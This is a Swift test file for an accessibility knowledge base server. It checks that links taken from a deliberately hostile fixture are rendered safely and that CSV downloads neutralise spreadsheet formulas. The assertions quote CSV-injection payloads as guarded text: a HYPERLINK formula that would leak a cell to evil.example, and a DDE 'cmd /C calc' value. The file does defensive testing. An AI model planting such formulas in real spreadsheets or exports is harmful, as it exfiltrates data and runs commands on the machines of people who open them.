import A11yKB
import A11yKBServer
import Foundation
import HTTPTypes
import TestSupport
import XCTest

/// What a source may carry reaches a page or a download as text, never as something that runs:
/// a `javascript:` page link is no link, a markdown link leads where it says, and a criterion a
/// spreadsheet would run as a formula is written as text in the CSV a tester opens (which still
/// reads back as results). On `Tests/fixtures/hostile-checkout` and on the corpus.
final class HostileContentTests: XCTestCase {
    nonisolated(unsafe) static var made: String?
    static let lock = NSLock()

    /// The hostile checkout imported once per test process, with a plan of its two pages.
    static func knowledgeBase() throws -> String {
        try lock.withLock {
            if let made { return made }
            let folder = FileManager.default.temporaryDirectory.appendingPathComponent("a11ykb-hostile-\(UUID().uuidString)")
            try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
            let file = folder.appendingPathComponent("kb.sqlite").path
            let kb = try KnowledgeBase.open(forImport: file)
            _ = try kb.importFiles([Fixtures.repoRoot.appendingPathComponent("Tests/fixtures/hostile-checkout").path])
            _ = try kb.savePlan("hostile", checklist: try kb.checklist(["web/hostile-link", "web/elsewhere-link"]))
            try kb.close()
            made = file
            return file
        }
    }

    func client(_ path: String) throws -> InProcessClient {
        var configuration = ServerConfiguration()
        configuration.accessLog = false
        return InProcessClient(try TeamServer.environment(path: path, configuration: configuration))
    }

    /// Every `href` of a page.
    func hrefs(_ html: String) -> [String] {
        let pattern = try! NSRegularExpression(pattern: #"href\s*=\s*"([^"]*)""#, options: [.caseInsensitive])
        return pattern.matches(in: html, range: NSRange(html.startIndex..., in: html)).compactMap { match in
            Range(match.range(at: 1), in: html).map { String(html[$0]) }
        }
    }

    func assertOnlyWebLinks(_ html: String, _ page: String, file: StaticString = #filePath, line: UInt = #line) {
        for href in hrefs(html) {
            let lower = href.lowercased()
            XCTAssertTrue(lower.hasPrefix("https://") || lower.hasPrefix("http://") || href.hasPrefix("/") || href.hasPrefix("#"),
                          "\(page) links to \(href)", file: file, line: line)
        }
    }

    func testAJavaScriptLinkIsNeverWritten() async throws {
        let c = try client(try Self.knowledgeBase())
        let page = try await c.get("/components/web/hostile-link")
        XCTAssertEqual(page.status, .ok, page.body)
        assertOnlyWebLinks(page.body, "web/hostile-link")
        XCTAssertFalse(page.body.lowercased().contains("javascript:"), "the address shows nowhere as a link")
        XCTAssertFalse(page.body.contains("MagentaA11y's page"), "no link is offered where the source gives no address")

        let elsewhere = try await c.get("/components/web/elsewhere-link")
        XCTAssertTrue(elsewhere.body.contains(#"<a href="https://guide.example/links/elsewhere">"#), "a markdown link leads to its url")
        assertOnlyWebLinks(elsewhere.body, "web/elsewhere-link")
    }

    /// MagentaA11y writes its page link as `[https://…/#/web-criteria/component/button](/web-criteria/component/button)`:
    /// the url is a route of its own site, so the page links to the address the text gives.
    func testAMarkdownPageLinkOfTheCorpusLeadsToThePage() async throws {
        let c = try client(try Fixtures.servedKnowledgeBase())
        for (component, address) in [("web/button", "https://www.magentaa11y.com/#/web-criteria/component/button"),
                                     ("native/button", "https://www.magentaa11y.com/#/native-criteria/controls/button")] {
            let page = try await c.get("/components/" + component)
            XCTAssertEqual(page.status, .ok)
            XCTAssertTrue(page.body.contains("<a href=\"\(address)\">MagentaA11y's page</a>"),
                          "\(component): \(hrefs(page.body).filter { $0.contains("magenta") })")
            assertOnlyWebLinks(page.body, component)
        }
        let criterion = try await c.get("/wcag/1.4.3")
        assertOnlyWebLinks(criterion.body, "/wcag/1.4.3")
    }

    /// The plan page's "CSV, to fill in results": every cell a spreadsheet would run as a formula
    /// is text (`'` first), read by Python's csv module; filled in, it reads back as results.
    func testThePlanDownloadGuardsFormulasAndReadsBackAsResults() async throws {
        let path = try Self.knowledgeBase()
        let c = try client(path)
        let download = try await c.get("/plans/hostile?format=csv")
        XCTAssertEqual(download.status, .ok, download.body)
        let folder = try Fixtures.temporaryFolder(self)
        let csv = folder.appendingPathComponent("plan.csv"), filled = folder.appendingPathComponent("filled.csv")
        try download.body.write(to: csv, atomically: true, encoding: .utf8)
        let records = try QueryFixtures.pythonCSV(csv.path)
        let header = try XCTUnwrap(records.first)
        let expectation = try XCTUnwrap(header.firstIndex(of: "expectation"))
        let cells = records.dropFirst().map { $0[expectation] }
        XCTAssertTrue(cells.contains(#"'=HYPERLINK("http://evil.example/?leak="&A1,"Focus moves visibly to the link")"#), "\(cells)")
        XCTAssertTrue(cells.contains("'@SUM(1+1)|cmd' /C calc'!A0"), "\(cells)")
        XCTAssertTrue(cells.contains("'-2+3 is not a formula anyone meant"), "\(cells)")
        for record in records {
            for cell in record {
                XCTAssertFalse(["=", "+", "-", "@", "\t", "\r"].contains(where: { cell.hasPrefix($0) }), "a live formula: \(cell)")
            }
        }
        let id = try XCTUnwrap(header.firstIndex(of: "id")), fingerprint = try XCTUnwrap(header.firstIndex(of: "fingerprint"))
        XCTAssertFalse(records.dropFirst().contains { $0[id].hasPrefix("'") || $0[fingerprint].hasPrefix("'") }, "ids and fingerprints are never guarded")

        // A tester fills every result in and saves (Python's csv writer), and the report reads it.
        _ = try QueryFixtures.python("""
            import csv, sys
            rows = list(csv.reader(open(sys.argv[1], newline='', encoding='utf-8-sig')))
            result = rows[0].index('result')
            for row in rows[1:]:
                row[result] = 'pass'
            csv.writer(open(sys.argv[2], 'w', newline='', encoding='utf-8')).writerows(rows)
            """, [csv.path, filled.path])
        let kb = try KnowledgeBase(path: path)
        let report = try kb.report(results: try Data(contentsOf: filled), name: "filled.csv")
        XCTAssertEqual(report.problems.map(\.id), [], "every row read back by id and fingerprint")
        XCTAssertEqual(report.total.passed, records.count - 1)
    }

    /// The checklist's CSV guards formulas however it is asked for (the command line's
    /// `checklist --format csv`, MCP); a data export (`sql`) keeps the raw value unless the
    /// byte order mark asks for a spreadsheet.
    func testAChecklistCSVIsAlwaysForASpreadsheet() throws {
        let kb = try KnowledgeBase(path: try Self.knowledgeBase())
        let checklist = try kb.checklist(["web/hostile-link"])
        let csv = try ChecklistDocument(checklist).rendered(.csv)
        XCTAssertTrue(csv.contains(#""'=HYPERLINK(""http://evil.example/?leak=""&A1"#), csv)
        let tabular = Tabular(columns: [.init("a")], rows: [[.text("=1+1")]])
        XCTAssertEqual(tabular.rendered(.csv), "a\r\n=1+1\r\n", "data keeps its value")
        XCTAssertEqual(tabular.rendered(.csv, options: .init(byteOrderMark: true)), "\u{FEFF}a\r\n\"'=1+1\"\r\n")
    }
}
